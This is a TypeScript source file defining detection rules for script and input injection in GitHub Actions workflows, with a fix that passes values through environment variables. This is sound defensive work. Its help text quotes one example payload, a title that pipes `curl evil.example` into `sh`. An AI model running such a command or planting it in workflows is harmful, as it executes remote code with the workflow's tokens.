import { readJavascript } from './javascriptText';
import type { ConfigRule } from './configLanguage';
import type { Detection, RuleInfo } from './rule';
import { snippet } from './rule';
import { readShell, regionAt } from './shellScript';
import { type ContextRead, hasLines, isAnybodys } from './workflowExpression';
import type { Section, Step, WorkflowFile } from './workflowFile';
import { textOf } from './workflowFile';
import { throughEnvironment } from './workflowInjectionFix';
import { type Expression, type Script, expressionsIn, scriptsOf } from './workflowScripts';

const attack =
  'The value is written into the script before the shell reads it, so a title such as `"; curl evil.example | sh; "` runs as a command, with the tokens of the workflow at hand.';
const fix =
  'Hand the value over in `env:` of the step, and use the variable in the script, in double quotes.';
const sources = [
  'https://docs.github.com/en/actions/concepts/security/script-injections',
  'https://cwe.mitre.org/data/definitions/94.html',
];
const recipe = {
  does: 'Hands the value to the script in an environment variable',
  review: 'read',
} as const;

/** What anybody on the internet can write, in the code that a workflow runs. */
export const scriptInjection: ConfigRule<WorkflowFile> = {
  id: 'workflow-script-injection',
  title: "Text of a stranger becomes part of a workflow's script",
  cwe: ['CWE-94', 'CWE-78', 'CWE-77', 'CWE-95', 'CWE-116', 'CWE-20'],
  languages: ['github-actions'],
  severity: 'high',
  precision: 'high',
  help: {
    why: 'Anybody may open an issue or a pull request, and choose its title, text and branch name.',
    attack,
    fix,
    sources,
  },
  topic: /script.?injection|code.?injection|template.?injection|expression.?injection/i,
  recipe,
  detect(file) {
    return detectReads(scriptInjection, file, (script) => {
      const tainted = taintedEnvironment(script.step, file);
      return (read) => isAnybodys(read) || tainted.has(read.path);
    });
  },
};

/** What the caller of an action or of a reusable workflow hands over, in the code that it runs. */
export const inputInjection: ConfigRule<WorkflowFile> = {
  id: 'workflow-input-injection',
  title: 'An input becomes part of a script',
  cwe: ['CWE-94', 'CWE-78', 'CWE-77', 'CWE-95', 'CWE-116', 'CWE-20'],
  languages: ['github-actions'],
  severity: 'low',
  precision: 'medium',
  help: {
    why: 'Whoever uses the action or the workflow may hand over a title or a branch name, which anybody can choose.',
    attack,
    fix,
    sources,
  },
  topic: /script.?injection|code.?injection|template.?injection|expression.?injection/i,
  recipe,
  detect(file) {
    if (!file.isAction && !file.triggers.has('workflow_call')) return [];
    const harmless = new Set(harmlessInputs(file));
    return detectReads(inputInjection, file, () => ({ path }) => {
      const name = /^inputs\.([^.*]+)$/.exec(path)?.[1];
      return name !== undefined && !harmless.has(name);
    });
  },
};

type Concern = (read: ContextRead) => boolean;

function detectReads(
  rule: RuleInfo,
  file: WorkflowFile,
  concernIn: (script: Script) => Concern,
): readonly Detection[] {
  return scriptsOf(file).flatMap((script) => {
    const concern = concernIn(script);
    const found = script.expressions.flatMap((expression) => {
      const read = expression.reads.find(concern);
      return read ? [{ expression, read }] : [];
    });
    if (found.length === 0) return [];
    const isInert = inertIn(script);
    return found
      .filter(({ expression, read }) => !isInert(expression, read))
      .map(({ expression, read }) => ({
        ruleId: rule.id,
        start: expression.start,
        end: expression.end,
        message: messageFor(rule, expression, script),
        recipe: () => throughEnvironment(file, script, expression, read),
      }));
  });
}

function messageFor(rule: RuleInfo, { code }: Expression, { entry }: Script): string {
  const who = rule === scriptInjection ? 'anybody' : 'the caller';
  return `${snippet(`\${{ ${code.trim()} }}`)} lets ${who} write code into this \`${snippet(entry.key)}\`.`;
}

/** Where an expression can do no harm although it is part of the code. */
function inertIn({ language, code }: Script) {
  if (language === 'javascript') {
    const { literals, isWhole } = readJavascript(code);
    // JSON is a value of JavaScript, unless quotes are put around it.
    return ({ at }: Expression, { asJson }: ContextRead) => {
      const literal = literals.findLast((one) => one.start <= at && at < one.end);
      return isWhole && asJson && (literal === undefined || literal.kind === 'comment');
    };
  }
  if (language === 'other') return () => false;
  const shell = readShell(code);
  return ({ at }: Expression, read: ContextRead) =>
    regionAt(shell, at)?.kind === 'comment' && !hasLines(read);
}

/** The variables of the environment that hold what anybody can write, as `env.name`. */
function taintedEnvironment(step: Step, file: WorkflowFile): ReadonlySet<string> {
  const tainted = new Set<string>();
  const seen = new Set<string>();
  for (const holder of environmentsOf(step, file)) {
    for (const { key, value } of holder.entries) {
      const path = `env.${key.toLowerCase()}`;
      const text = textOf(value) ?? '';
      const reads = expressionsIn(text, { start: 0, end: text.length }).flatMap((one) => one.reads);
      if (!seen.has(path) && reads.some(isAnybodys)) tainted.add(path);
      seen.add(path);
    }
  }
  return tainted;
}

function environmentsOf(step: Step, { root }: WorkflowFile): readonly Section[] {
  return [step, step.job, root].flatMap((holder) => holder?.get('env')?.section ?? []);
}

/** Inputs that are no free text. */
function harmlessInputs({ root }: WorkflowFile): readonly string[] {
  const on = root.get('on') ?? root.get('true');
  const inputs = on?.section?.get('workflow_call')?.section?.get('inputs')?.section;
  return (inputs?.entries ?? [])
    .filter(({ section }) => /^(boolean|number)$/.test(textOf(section?.get('type')?.value) ?? ''))
    .map(({ key }) => key.toLowerCase());
}
